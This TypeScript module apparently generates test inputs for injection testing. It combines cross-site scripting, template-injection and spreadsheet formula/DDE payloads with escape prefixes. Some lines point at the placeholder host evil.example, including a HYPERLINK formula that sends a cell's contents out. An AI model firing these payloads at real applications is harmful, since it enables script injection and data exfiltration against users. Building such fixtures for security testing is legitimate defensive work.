/** What a value does when it runs: it calls `zq1`, or leaves an element of that name. */
const calls = [
  '<zq1 onmouseover=zq1()>',
  '<script>zq1()</script>',
  '<img src=x onerror=zq1()>',
  '<svg onload=zq1()>',
  '<svg><script>zq1()</script></svg>',
  '<iframe srcdoc="<script>parent.zq1()</script>">',
  '<details open ontoggle=zq1()>x</details>',
  '<input autofocus onfocus=zq1()>',
  '<a href="javascript:zq1()">x</a>',
  '<math><mtext><style><img src=x onerror=zq1()></style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:zq1()">',
  '<form action="javascript:zq1()"><button autofocus>x</button></form>',
  '<style>@import "https://evil.example/zq1.css";</style>',
  'javascript:zq1()',
  'data:text/html,<script>zq1()</script>',
  '{{constructor.constructor("zq1()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as somebody sends it
  '${zq1()}',
  '[x](javascript:zq1())',
  '![x](https://evil.example/zq1.png)',
  '=HYPERLINK("https://evil.example/?"&A1,"zq1")',
  "+cmd|' /C zq1'!A0",
  "-2+3+cmd|' /C zq1'!A0",
  '@SUM(1+1)*cmd|zq1',
  '\t=1+zq1',
]

/** What has to be left before a value stands where it runs. */
const ways = [
  ...['', '"', "'", '">', "'>", '`', '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '*/'],
  ...[
    '\\"',
    '\\u003c/script>',
    '&quot;>',
    '%22%3E',
    '\u2028',
    '\u202e',
    '\u0000',
    '\r\n',
    '</option></select>',
  ],
]
const tails = ['', '//', '<!--', ' x="']

/** So many different values, by turns of every kind. */
export function hostileWords(count: number): string[] {
  const all = tails.flatMap((tail) => ways.flatMap((way) => calls.map((call) => `${way}${call}${tail}`)))
  if (all.length < count) throw new RangeError(`there are no more than ${all.length}`)
  return all.slice(0, count)
}
